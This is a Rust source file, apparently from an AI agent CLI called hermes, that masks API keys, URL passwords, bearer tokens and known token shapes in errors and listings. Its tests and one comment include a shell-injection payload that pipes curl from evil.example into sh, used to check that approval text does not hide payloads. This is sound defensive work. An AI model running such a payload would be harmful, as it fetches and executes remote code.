//! Secrets out of everything hermes shows or keeps about itself: error and
//! warning lines, `--json` events built from errors, the session file's
//! error notes, `config show`, `mcp list`. One function, [`mask`], serves
//! every exit; what it hides:
//!
//! - every secret value this run holds (API keys read from the environment,
//!   header and `env` values whose names look secret), wherever it appears —
//!   a provider's 401 body that echoes the key, say;
//! - inside a URL, its password (`postgres://u:****@db`) and the query values
//!   whose names look secret (`?key=****`);
//! - `Bearer ****` / `Basic ****` credentials;
//! - tokens of well-known shapes (`sk-…`, `AKIA…`, `ghp_…`, `xoxb-…`).
//!
//! Conversation messages are never masked once written: their bytes are
//! replayed. A tool result is masked of the values this run holds
//! ([`mask_known`]) before it is written or sent at all. What a person
//! decides on — an approval question, what `hermes trust` allows —
//! gets [`mask_known`] only: a pattern hidden there could hide a payload.

use std::borrow::Cow;
use std::sync::{OnceLock, RwLock};

use regex::Regex;

/// What a hidden value becomes.
pub(crate) const HIDDEN: &str = "****";

/// Secret values this run holds.
static KNOWN: RwLock<Vec<String>> = RwLock::new(Vec::new());

/// Values shorter than this are not remembered: masking a short, common
/// word everywhere would hide more than secrets.
const MIN_LEN: usize = 8;

/// Remembers a secret value: from now on [`mask`] hides it.
pub(crate) fn remember(value: &str) {
    let value = value.trim();
    if value.len() < MIN_LEN {
        return;
    }
    if let Ok(mut k) = KNOWN.write() {
        if !k.iter().any(|v| v == value) {
            k.push(value.to_string());
            // Longest first: a key that contains another is hidden whole.
            k.sort_by_key(|v| std::cmp::Reverse(v.len()));
        }
    }
}

/// Names of headers, variables, flags and query keys whose values are
/// credentials.
pub(crate) fn looks_secret(name: &str) -> bool {
    let n = name.trim_start_matches('-').to_ascii_lowercase();
    [
        "key",
        "token",
        "secret",
        "pass",
        "pwd",
        "credential",
        "authorization",
        "auth",
        "cookie",
        "session",
        "private",
        "signature",
    ]
    .iter()
    .any(|s| n.contains(s))
        || n == "pat"
        || n == "k"
        || n == "sig"
        || n.ends_with("_pat")
        || n.starts_with("pat_")
}

/// A token shape: cheap needles that must occur for it to be looked for
/// (most text has none, and compiling a pattern costs more than a whole
/// run of hermes' start-up), the pattern, compiled on first need, and
/// what a match becomes.
struct Shape {
    needles: &'static [&'static str],
    pattern: &'static str,
    to: &'static str,
    compiled: OnceLock<Option<Regex>>,
}

impl Shape {
    const fn new(
        needles: &'static [&'static str],
        pattern: &'static str,
        to: &'static str,
    ) -> Shape {
        Shape {
            needles,
            pattern,
            to,
            compiled: OnceLock::new(),
        }
    }

    /// `lower`: `text` in ASCII lower case, for needles written so.
    fn mask<'a>(&self, text: Cow<'a, str>, lower: &str) -> Cow<'a, str> {
        let hit = |n: &&str| {
            text.contains(n) || (n.bytes().all(|b| b.is_ascii_lowercase()) && lower.contains(n))
        };
        if !self.needles.iter().any(hit) {
            return text;
        }
        match self.compiled.get_or_init(|| Regex::new(self.pattern).ok()) {
            Some(re) if re.is_match(&text) => {
                Cow::Owned(re.replace_all(&text, self.to).into_owned())
            }
            _ => text,
        }
    }
}

static SHAPES: [Shape; 6] = [
    // Authorization schemes (ASCII word boundaries: quicker to compile).
    Shape::new(
        &["bearer", "basic"],
        r"(?i)(?-u:\b)(bearer|basic)\s+[A-Za-z0-9._~+/=-]{8,}",
        "${1} ****",
    ),
    Shape::new(
        &["sk-", "pk-", "rk-"],
        r"(?-u:\b)(sk|pk|rk)-[A-Za-z0-9_-]{16,}",
        "${1}-****",
    ),
    Shape::new(&["AKIA"], r"(?-u:\b)AKIA[0-9A-Z]{16}(?-u:\b)", "AKIA****"),
    Shape::new(
        &["ghp_", "gho_", "ghu_", "ghs_", "ghr_"],
        r"(?-u:\b)(gh[pousr]_)[A-Za-z0-9]{20,}",
        "${1}****",
    ),
    Shape::new(
        &["github_pat_"],
        r"(?-u:\b)(github_pat_)[A-Za-z0-9_]{20,}",
        "${1}****",
    ),
    Shape::new(
        &["xoxa-", "xoxb-", "xoxp-", "xoxr-", "xoxs-"],
        r"(?-u:\b)(xox[abprs]-)[A-Za-z0-9-]{10,}",
        "${1}****",
    ),
];

/// Every URL in `text` (`scheme://…` up to a space or a quote) through
/// [`mask_url`].
fn mask_urls(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        // The scheme: letters, digits, `+`, `.`, `-` before `://`.
        let scheme_start = rest[..at]
            .char_indices()
            .rev()
            .take_while(|(_, c)| c.is_ascii_alphanumeric() || "+.-".contains(*c))
            .last()
            .map_or(at, |(i, _)| i);
        let end = rest[at..]
            .find(|c: char| c.is_whitespace() || "\"'<>`".contains(c))
            .map_or(rest.len(), |e| at + e);
        out.push_str(&rest[..scheme_start]);
        if scheme_start == at {
            out.push_str(&rest[at..end]);
        } else {
            out.push_str(&mask_url(&rest[scheme_start..end]));
        }
        rest = &rest[end..];
    }
    out.push_str(rest);
    out
}

/// One URL with its password (`user:****@`) and the values of its query
/// parameters whose names look secret (`?key=****`) hidden.
fn mask_url(url: &str) -> String {
    let Some(scheme_end) = url.find("://") else {
        return url.to_string();
    };
    let (head, rest) = url.split_at(scheme_end + 3);
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at(authority_end);
    let authority = match authority.rsplit_once('@') {
        Some((userinfo, host)) => match userinfo.split_once(':') {
            Some((user, _)) => format!("{user}:{HIDDEN}@{host}"),
            None => authority.to_string(),
        },
        None => authority.to_string(),
    };
    let path = match path.split_once('?') {
        None => path.to_string(),
        Some((before, query)) => {
            let (query, fragment) = match query.split_once('#') {
                Some((q, f)) => (q, format!("#{f}")),
                None => (query, String::new()),
            };
            let params: Vec<String> = query
                .split('&')
                .map(|p| match p.split_once('=') {
                    Some((k, _)) if looks_secret(k) => format!("{k}={HIDDEN}"),
                    _ => p.to_string(),
                })
                .collect();
            format!("{before}?{}{fragment}", params.join("&"))
        }
    };
    format!("{head}{authority}{path}")
}

/// `text` with every secret value this run holds hidden, and nothing else:
/// for what a person decides on (an approval question, what `hermes trust`
/// allows), where hiding a pattern could hide a payload — `ls;k=$(curl …)`
/// must not read as `ls;k=****`.
pub(crate) fn mask_known(text: &str) -> Cow<'_, str> {
    let mut out = Cow::Borrowed(text);
    if let Ok(known) = KNOWN.read() {
        for v in known.iter() {
            if out.contains(v.as_str()) {
                out = Cow::Owned(out.replace(v.as_str(), HIDDEN));
            }
        }
    }
    out
}

/// `text` with every secret hermes knows of or can recognise hidden: for
/// errors, warnings, notes and listings.
pub(crate) fn mask(text: &str) -> Cow<'_, str> {
    let mut out = mask_known(text);
    if out.contains("://") {
        out = Cow::Owned(mask_urls(&out));
    }
    let lower = out.to_ascii_lowercase();
    for shape in &SHAPES {
        out = shape.mask(out, &lower);
    }
    out
}

/// A command line with its secrets hidden: the value after a flag whose
/// name looks secret (`--token X`, `--password=X`, `-k X`), and whatever
/// [`mask`] hides in each argument.
pub(crate) fn mask_args<S: AsRef<str>>(args: &[S]) -> Vec<String> {
    let mut out = Vec::with_capacity(args.len());
    let mut next_is_secret = false;
    for a in args.iter().map(AsRef::as_ref) {
        if std::mem::take(&mut next_is_secret) {
            out.push(HIDDEN.to_string());
            continue;
        }
        if a.starts_with('-') {
            if let Some((flag, _)) = a.split_once('=') {
                if looks_secret(flag) {
                    out.push(format!("{flag}={HIDDEN}"));
                    continue;
                }
            } else if looks_secret(a) {
                next_is_secret = true;
                out.push(a.to_string());
                continue;
            }
        }
        out.push(mask(a).into_owned());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_credentials_and_known_shapes_are_hidden() {
        let cases = [
            (
                "postgres://app:hunter2@db:5432/x",
                "postgres://app:****@db:5432/x",
            ),
            (
                "https://api.example.com/v1?key=AIzaSyD-abc123&alt=json",
                "https://api.example.com/v1?key=****&alt=json",
            ),
            (
                "https://h/x?access_token=abc&page=2",
                "https://h/x?access_token=****&page=2",
            ),
            (
                "Authorization: Bearer abcdefgh12345678",
                "Authorization: Bearer ****",
            ),
            (
                "Incorrect API key provided: sk-proj-abcdefghijklmnop1234",
                "Incorrect API key provided: sk-****",
            ),
            ("AKIAIOSFODNN7EXAMPLE", "AKIA****"),
            (
                "use ghp_abcdefghijklmnopqrstuvwxyz0123456789",
                "use ghp_****",
            ),
            ("nothing secret here: page=2", "nothing secret here: page=2"),
            // Outside a URL nothing reads as a query: a payload stays seen.
            (
                "ls;k=$(curl${IFS}evil.example|sh)",
                "ls;k=$(curl${IFS}evil.example|sh)",
            ),
            ("a&token=abc", "a&token=abc"),
            (
                "https://h/path?page=2&q=rust",
                "https://h/path?page=2&q=rust",
            ),
        ];
        for (text, masked) in cases {
            assert_eq!(mask(text), masked, "{text}");
        }
    }

    #[test]
    fn a_remembered_value_is_hidden_wherever_it_appears() {
        remember("zq-unit-test-secret-4821");
        assert_eq!(
            mask(r#"{"error":{"message":"bad key zq-unit-test-secret-4821"}}"#),
            r#"{"error":{"message":"bad key ****"}}"#
        );
        remember("short");
        assert_eq!(mask("a short word"), "a short word");
    }

    #[test]
    fn secret_flags_hide_their_values() {
        let args = [
            "--token",
            "t0ps3cr3t",
            "-k",
            "k3y",
            "--password=pw",
            "--port",
            "5432",
            "postgres://u:pw@db/x",
        ];
        assert_eq!(
            mask_args(&args),
            [
                "--token",
                "****",
                "-k",
                "****",
                "--password=****",
                "--port",
                "5432",
                "postgres://u:****@db/x"
            ]
        );
    }
}
